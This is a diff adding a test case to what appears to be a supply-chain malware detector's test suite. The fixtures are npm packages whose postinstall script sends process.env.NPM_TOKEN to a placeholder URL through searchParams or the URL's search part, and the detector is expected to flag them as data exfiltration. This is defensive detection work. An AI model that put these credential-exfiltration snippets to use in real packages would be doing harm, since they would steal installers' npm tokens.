@@ -2428,6 +2428,29 @@ bus.once('ready', up); bus.emit('ready', require('fs').readFileSync(require('os'
         ),
       ).toContain('data_exfiltration');
   });
+  it('a URL object given the secret through searchParams or its search part', () => {
+    for (const code of [
+      `const q = new URL('${U}'); q.searchParams.set('t', process.env.NPM_TOKEN); fetch(q);`,
+      `const q = new URL('${U}'); q.searchParams.append('t', process.env.NPM_TOKEN); fetch(q.toString());`,
+      `const q = new URL('${U}'); q.search = '?t=' + process.env.NPM_TOKEN; fetch(q.href);`,
+    ])
+      expect(
+        threatsOf(
+          analyzeSource({
+            'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+            'index.js': code,
+          }),
+        ),
+      ).toContain('data_exfiltration');
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+          'index.js': `const q = new URL('${U}'); q.searchParams.set('v', require('./package.json').version); fetch(q);`,
+        }),
+      ),
+    ).toEqual([]);
+  });
   it('an emitter passing progress, and a promisified exec of a version check, send nothing secret', () => {
     for (const code of [
       `const EventEmitter = require('events'); const e = new EventEmitter(); e.on('progress', (p) => fetch('${U}', { method: 'POST', body: String(p) })); e.emit('progress', 42);`,
